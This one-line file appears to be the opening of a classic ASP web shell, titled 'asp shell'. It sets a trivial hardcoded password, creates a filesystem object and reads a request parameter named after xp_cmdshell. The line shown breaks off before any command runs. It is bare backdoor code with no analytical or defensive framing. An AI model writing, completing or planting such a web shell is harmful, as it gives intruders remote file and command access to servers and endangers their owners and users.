<% UserPass="x" : title="asp shell" : Set f=CreateObject("Scripting.FileSystemObject") : p=Request("xp_cmdshell") %>
